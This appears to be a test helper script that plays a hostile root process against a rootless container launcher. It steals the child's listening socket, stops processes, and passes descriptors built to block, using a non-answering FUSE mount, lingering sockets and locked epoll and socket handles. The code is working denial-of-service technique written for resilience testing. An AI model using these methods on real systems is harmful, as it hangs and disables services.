#!/usr/bin/python3
"""Root inside as an attacker: hostile.py MODE

Copies the listening socket of .bp.sock out of the launcher's child, stops the child, and answers the
launcher's requests in its place, with descriptors that block whoever closes or uses them. Requests for
port 81 get what they should: a connection to an echo server.

Creates `ready` in the directory of the case when the attack can begin, and uses `fuse` there as a
mount point.
"""
import array
import ctypes
import fcntl
import json
import mmap
import os
import select
import signal
import socket
import struct
import sys
import termios
import threading

import proc
import wire
from waiting import make_file, path_of, wait_until

mode = sys.argv[1]
child = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
API_SOCKET = os.environ["ROOTLESSKIT_STATE_DIR"] + "/api.sock"
kept = []  # sockets that must stay open


def wait_for_ever():
    while True:
        signal.pause()


# These attacks go on when the launcher's child and its command have been killed. The launcher kills
# the process that goes on.
if mode in ("lock-in-store", "lock-draining"):
    if os.fork():
        wait_for_ever()
    os.setsid()


# ---- FUSE ----
#
# A file system with one directory. Files in it can have any name, and each new name is a new inode. Its
# server never answers some requests, so that the process that waits for an answer blocks.

LOOKUP, FORGET, GETATTR, OPEN, READ, FLUSH = 1, 2, 3, 14, 15, 25
INIT, INTERRUPT, POLL, BATCH_FORGET = 26, 36, 40, 42
NOT_ANSWERED = (FORGET, BATCH_FORGET, INTERRUPT, READ, FLUSH, POLL)
ROOT = 1
inodes = {}  # by name


def attributes(inode):
    kind = 0o40755 if inode == ROOT else 0o100666
    return struct.pack("<QQQQQQIIIIIIIIII", inode, 4096, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0, 0, 0,
                       4096, 0)


def answer_fuse(op, node, body):
    if op == INIT:
        readahead = struct.unpack("<IIII", body[:16])[2]
        return struct.pack("<IIIIHHIIHHIIHHIIIII", 7, 31, readahead, 0, 12, 10, 131072, 1,
                           0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)[:64]
    if op == LOOKUP:
        inode = inodes.setdefault(body, ROOT + 1 + len(inodes))
        return struct.pack("<QQQQII", inode, 0, 1000, 1000, 0, 0) + attributes(inode)
    if op == GETATTR:
        return struct.pack("<QII", 1000, 0, 0) + attributes(node)
    if op == OPEN:
        return struct.pack("<QII", 1, 0, 0)
    return None


def serve_fuse(device, blocked):
    """Writes a byte to `blocked` for each READ and POLL: the process that asks is blocked then."""
    while True:
        request = os.read(device, 1 << 20)
        op, unique, node = struct.unpack("<IQQ", request[4:24])
        if op in (READ, POLL):
            os.write(blocked, b".")
        if op in NOT_ANSWERED:
            continue
        data = answer_fuse(op, node, request[40:])
        head = struct.pack("<iQ", 0 if data is not None else -38, unique)
        data = data or b""
        os.write(device, struct.pack("<I", 16 + len(data)) + head + data)


def mount_fuse():
    """The server is a separate process, which outlives the launcher's child. Returns a pipe from which
    a byte can be read for each process that has blocked."""
    os.mkdir(path_of("fuse"))
    device = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0"
    if libc.mount(b"fuse", path_of("fuse").encode(), b"fuse", 0, options.encode()) < 0:
        sys.exit("mount: " + os.strerror(ctypes.get_errno()))
    out, into = os.pipe()
    if os.fork() == 0:
        os.setsid()
        serve_fuse(device, into)
    os.close(device)
    os.close(into)
    return out


def open_fuse_file(name="file"):
    return os.open(f"{path_of('fuse')}/{name}", os.O_RDONLY)


def wait_until_blocked():
    """Until one more process has blocked."""
    if not select.select([fuse_blocked], [], [], 20)[0]:
        sys.exit("no process has blocked")
    os.read(fuse_blocked, 1)


# ---- sockets ----

def listening(port=0):
    s = socket.socket()
    s.bind(("127.0.0.1", port))
    s.listen(16)
    kept.append(s)
    return s


def unsent(s):
    """How many bytes of a socket the peer's kernel has not taken (TCP), or the peer has not read
    (UNIX)."""
    return struct.unpack("i", fcntl.ioctl(s, termios.TIOCOUTQ, bytes(4)))[0]


def lingering():
    """A connection whose buffers are full, and whose close(2) waits for a minute."""
    server = listening()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s = socket.socket()
    s.connect(server.getsockname())
    s.setblocking(False)
    try:
        while True:
            s.send(b"x" * 65536)
    except BlockingIOError:
        pass
    s.setblocking(True)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def connected(server):
    s = socket.socket()
    s.connect(server.getsockname())
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def not_connected():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def lock(s):
    """Makes another process hold the kernel's lock of the socket: it sends from memory that is mapped
    from a file of the FUSE server, so send(2) waits for a page that never arrives."""
    if os.fork() == 0:
        os.setsid()
        fd = open_fuse_file(f"locks {s.fileno()}")  # a page of its own: a second READ of one would wait
        s.send(memoryview(mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)))
    wait_until_blocked()


def locked():
    s = connected(listening())
    lock(s)
    return s


def lock_in_store(c):
    """Sends two sockets that the worker stores, and one that it can use. The two are locked when the
    worker has used the third, for a connection to port 80."""
    stored = [connected(listening()) for _ in range(2)]
    kept.extend(stored)
    send(c, [s.dup() for s in stored] + [not_connected()])
    if not port_80_used.wait(20):
        sys.exit("the worker does not connect")
    for s in stored:
        lock(s)
    make_file("locked")


def api_is_closed():
    c = socket.socket(socket.AF_UNIX)
    c.settimeout(20)
    try:
        c.connect(API_SOCKET)
    except (FileNotFoundError, ConnectionRefusedError):
        return True
    finally:
        c.close()
    return False


def lock_while_draining(c):
    """Gives the client more than its small buffer takes, so that the connection drains for as long as
    the launcher allows. The launcher closes its API right before connections drain."""
    server = listening()
    s = connected(server)
    kept.append(s)
    send(c, [s.dup()])
    peer = server.accept()[0]
    kept.append(peer)
    peer.sendall(b"y" * 48 * 1024)
    wait_until(lambda: unsent(peer) == 0, "the bytes have left")
    make_file("pending")
    wait_until(api_is_closed, "the launcher ends", 60)
    lock(s)
    make_file("locked")


def echo(s):
    while data := s.recv(4096):
        s.sendall(data)


def serve_echo(server, used):
    while True:
        s = server.accept()[0]
        used.set()
        threading.Thread(target=echo, args=(s,), daemon=True).start()


def start_echo(server):
    """Returns an event that is set when there has been a client."""
    used = threading.Event()
    threading.Thread(target=serve_echo, args=(server, used), daemon=True).start()
    return used


# ---- answers ----

def send(c, sockets, data=b"\0", flags=0):
    """Sends sockets or descriptors and closes them. Returns the threads that close them."""
    fds = [s if isinstance(s, int) else s.fileno() for s in sockets]
    try:
        c.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))], flags)
    except OSError:
        kept.extend(sockets)  # the last close(2) of one would block us
        raise
    # The files of the FUSE server stay open, since each close(2) of one blocks. That of a socket
    # blocks if the launcher has closed its own copy already.
    closing = [threading.Thread(target=s.close, daemon=True) for s in sockets if not isinstance(s, int)]
    for thread in closing:
        thread.start()
    return closing


def hear(c):
    data = b""
    while len(data) < 4 or len(data) < 4 + struct.unpack("<I", data[:4])[0]:
        piece = c.recv(4096)
        if not piece:
            return {}
        data += piece
    return json.loads(data[4:])


def attack(c, count):
    if mode == "fuse":
        send(c, [open_fuse_file() for _ in range(min(count, 2))])
    elif mode == "linger":
        send(c, [lingering() for _ in range(min(count, 4))])
    elif mode == "lock":
        send(c, [locked()])
    elif mode == "lock-in-store" and count > 1:
        lock_in_store(c)
    elif mode == "lock-draining" and count == 1:
        lock_while_draining(c)
    elif mode == "surplus":
        send(c, [lingering() for _ in range(count + 3)])
    elif mode == "in-flight":
        late = [lingering() for _ in range(2)]
        c.sendall(wire.frame({"Error": "no"}))
        send(c, late)
    else:
        c.sendall(wire.frame({"Error": "no"}))


def handle(c):
    request = hear(c)
    try:
        if request.get("Port") == 81:
            s = socket.socket()
            s.connect(echo_address)
            send(c, [s])
        else:
            attack(c, request.get("Count", 1))
    except OSError as e:
        print(mode, request, e, flush=True)
    c.close()


# ---- taking over ----

def is_stopped(pid):
    return proc.field(pid, "status", "State")[0] == "T"


def stop(pid):
    os.kill(pid, signal.SIGSTOP)
    wait_until(lambda: is_stopped(pid), f"{pid} stops")


def take_listener():
    for s in proc.copy_sockets(child):
        if s.family == socket.AF_UNIX and s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            return s
    sys.exit("the listener was not found")


def take_epoll():
    for fd in proc.fds(child):
        if os.readlink(f"/proc/{child}/fd/{fd}") == "anon_inode:[eventpoll]":
            return proc.copy_fd(child, fd)
    sys.exit("the child's epoll instance was not found")


def hold_epoll():
    """Makes another process hold the lock of the child's epoll instance: adding a file polls it, and
    the FUSE server does not answer that. The child needs the lock when it closes its descriptors, also
    after SIGKILL."""
    epoll = select.epoll.fromfd(take_epoll())
    fd = open_fuse_file()
    if os.fork() == 0:
        os.setsid()
        epoll.register(fd, select.EPOLLIN)
    wait_until_blocked()
    make_file("ready")
    wait_for_ever()


def connect_api():
    c = socket.socket(socket.AF_UNIX)
    c.connect(API_SOCKET)
    kept.append(c)
    return c


def attack_api():
    """Sends sockets to the API. The launcher is stopped until our copies are closed, so that it has the
    last one of each."""
    launcher = int(proc.field(child, "status", "PPid")[0])
    stop(launcher)
    closing = []
    for _ in range(4):
        c = connect_api()
        if mode == "api-urgent":
            try:
                closing += send(c, [lingering()], b"!", socket.MSG_OOB)
            except OSError:  # Linux before 5.15
                pass
            c.send(b"GET /v1/info HTTP/1.1\r\nHost: x\r\n\r\n")
            continue
        closing += send(c, [lingering()], b"GET /v1/ports HTTP/1.1\r\n")
        closing += send(c, [lingering()], b"Host: x\r\n\r\n")
    for thread in closing:
        thread.join(20)
    os.kill(launcher, signal.SIGCONT)
    # The launcher passes SIGCONT on.
    wait_until(lambda: not is_stopped(child), "the child continues")
    stop(child)


if mode in ("fuse", "lock", "lock-in-store", "lock-draining", "epoll"):
    fuse_blocked = mount_fuse()
if mode == "epoll":
    hold_epoll()
taken = take_listener()
stop(child)
echo_server = listening()
echo_address = echo_server.getsockname()
start_echo(echo_server)
if mode == "lock-in-store":
    port_80_used = start_echo(listening(80))
if mode in ("api", "api-urgent"):
    attack_api()
make_file("ready")
taken.setblocking(True)
while True:
    threading.Thread(target=handle, args=(taken.accept()[0],), daemon=True).start()
